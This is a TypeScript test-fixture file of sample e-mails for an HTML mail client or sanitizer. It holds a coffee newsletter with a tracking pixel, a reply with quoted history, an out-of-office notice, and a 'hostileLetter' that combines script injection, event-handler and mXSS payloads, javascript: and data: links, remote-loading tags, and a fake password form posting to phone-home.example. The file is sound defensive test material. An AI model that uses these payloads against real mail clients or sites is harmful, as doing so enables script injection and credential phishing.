// E-mails as they really arrive: tables in tables, a signature with a logo, the history below, a picture that counts readers.
// Addresses under .test and .example never resolve, so a client that loads one without asking fails visibly, and harmlessly.

export interface Letter {
  subject: string;
  /** The plain text part. */
  text: string;
  /** The sender's whole document, as raw as it came. */
  html: string;
  quoted?: string;
}

export const newsletter: Letter = {
  subject: 'Fwd: Your September roast list ☕',
  text: 'Hi, I get this mail twice every month, once to this address and once to my old one. Can you remove the old one?\n\nPer',
  html: `<!doctype html><html><head><meta charset="utf-8"><style>
body{margin:0;background:#f2efe9;font-family:Georgia,serif} .wrap{width:600px} .btn{background:#7a3b2e;color:#fff;padding:12px 24px;text-decoration:none}
@media (max-width:620px){.wrap{width:100%!important}}
</style></head><body onload="document.title='read'">
<p style="font-family:Arial">Hi, I get this mail twice every month, once to this address and once to my old one. Can you remove the old one?<br><br>Per</p>
<p>---------- Forwarded message ---------</p>
<table width="100%" bgcolor="#f2efe9" cellpadding="0" cellspacing="0" border="0"><tr><td align="center">
<table class="wrap" width="600" bgcolor="#ffffff" cellpadding="0" cellspacing="0" border="0">
<tr><td style="padding:24px" align="center"><img src="https://news.kraka.example/img/logo.png" width="160" height="40" alt="Kråka Coffee"></td></tr>
<tr><td style="padding:0 24px"><h1 style="font-size:26px;color:#3a2a20">Three new coffees for September</h1>
<p style="color:#5b4a3f;line-height:1.6">The first Colombians of the season are in. We roasted them twice and argued a lot.</p></td></tr>
<tr><td style="padding:24px"><table width="100%"><tr>
<td width="33%" valign="top"><img src="https://news.kraka.example/img/a.jpg" width="160" height="120" alt="Nordnes"><br><b>Nordnes</b><br>Plum, cane sugar</td>
<td width="33%" valign="top"><img src="https://news.kraka.example/img/b.jpg" width="160" height="120" alt="Fløyen"><br><b>Fløyen</b><br>Bergamot, honey</td>
<td width="33%" valign="top"><img src="https://news.kraka.example/img/c.jpg" width="160" height="120" alt="Sandviken"><br><b>Sandviken</b><br>Decaf, cocoa</td>
</tr></table></td></tr>
<tr><td align="center" style="padding:16px 24px 32px"><a class="btn" href="https://shop.kraka.example/?utm_source=news">See the list</a></td></tr>
<tr><td style="padding:16px 24px;font-size:11px;color:#9a8f86">You get this because you ordered from us. <a href="https://news.kraka.example/unsubscribe?u=77120">Unsubscribe</a></td></tr>
</table></td></tr></table>
<img src="https://track.kraka.example/open?u=77120&c=sept" width="1" height="1" alt="" style="display:none">
</body></html>`,
};

export const answerWithHistory: Letter = {
  subject: 'Re: Offer for the canteen, 2nd version',
  text: 'Dear Ben,\n\nthank you, the second version fits. Two small things:\n\n1. Please put the name of the site on the invoice\n2. Delivery before 7:30, the loading bay closes then\n\nKind regards\nRenate Weiß-Köhler',
  html: `<html><body><div dir="ltr" style="font-family:Calibri,sans-serif;font-size:11pt">
<p>Dear Ben,</p><p>thank you, the second version fits. Two small things:</p>
<ol><li>Please put the name of the site on the invoice</li><li>Delivery before <b>7:30</b>, the loading bay closes then</li></ol>
<p>Kind regards<br>Renate Weiß-Köhler</p>
<table cellpadding="4" style="border-top:1px solid #bbb;font-size:9pt;color:#555"><tr><td><img src="cid:logo@werk.example" width="64" height="64" alt="Logo"></td>
<td><b>Renate Weiß-Köhler</b><br>Facility Management, Site 4<br><a href="tel:+4934155501">+49 341 555 01</a> · <a href="mailto:r.weiss@werk.example">r.weiss@werk.example</a></td></tr></table>
<p style="font-size:8pt;color:#888">This e-mail may contain confidential information. If you are not the intended recipient please delete it.</p>
<div class="gmail_quote"><div>On Tue, Ben Sørensen &lt;help@kraka.example&gt; wrote:</div>
<blockquote style="margin-left:8px;border-left:2px solid #ccc;padding-left:8px"><p>Dear Ms Weiß-Köhler, attached is the second version with two brewers instead of three.</p>
<blockquote style="margin-left:8px;border-left:2px solid #ccc;padding-left:8px"><p>From: Renate Weiß-Köhler<br>Sent: Monday<br>Subject: Offer for the canteen</p><p>Three brewers are too many for 120 people, I think.</p></blockquote></blockquote></div>
</div></body></html>`,
  quoted:
    'On Tue, Ben Sørensen wrote:\n> Dear Ms Weiß-Köhler, attached is the second version with two brewers instead of three.\n>> Three brewers are too many for 120 people, I think.',
};

export const outOfOffice: Letter = {
  subject: 'Automatic reply: Your order is on its way',
  text: 'I am out of the office until Monday with no access to e-mail.\nIn urgent matters please call my colleagues.',
  html: '<html><body><p>I am out of the office until Monday with no access to e-mail.<br>In urgent matters please call my colleagues.</p></body></html>',
};

/** Every trick at once. A client that lets one through changes the page's title or calls out to phone-home.example. */
export const hostileLetter: Letter = {
  subject: '<script>document.title="subject"</script> Invoice overdue',
  text: 'Please see the invoice: [open](javascript:document.title="link")',
  html: `<html><head><base href="https://phone-home.example/"><meta http-equiv="refresh" content="0;url=https://phone-home.example/refresh"><style>@import "https://phone-home.example/style.css"; body{background:url(https://phone-home.example/bg.png)} *{position:fixed!important;inset:0}</style></head>
<body onload="document.title='onload'" background="https://phone-home.example/body.png">
<script>document.title='script'</script><img src="x" onerror="document.title='onerror'"><svg onload="document.title='svg'"></svg>
<img src="https://phone-home.example/pixel.gif" width="1" height="1"><img srcset="https://phone-home.example/set.png 1x">
<a href="javascript:document.title='href'">Open the invoice</a> <a href="data:text/html,<script>document.title='data'</script>">or here</a>
<a href="https://phone-home.example/login" target="_top">or here</a>
<form action="https://phone-home.example/form"><input name="password" type="password" autofocus><button>Log in</button></form>
<iframe src="https://phone-home.example/frame"></iframe><object data="https://phone-home.example/object"></object><video poster="https://phone-home.example/poster.png" src="https://phone-home.example/video.mp4" autoplay></video>
<link rel="stylesheet" href="https://phone-home.example/link.css"><math><mtext><style><img src=x onerror="document.title='mxss'"></style></mtext></math>
</body></html>`,
};
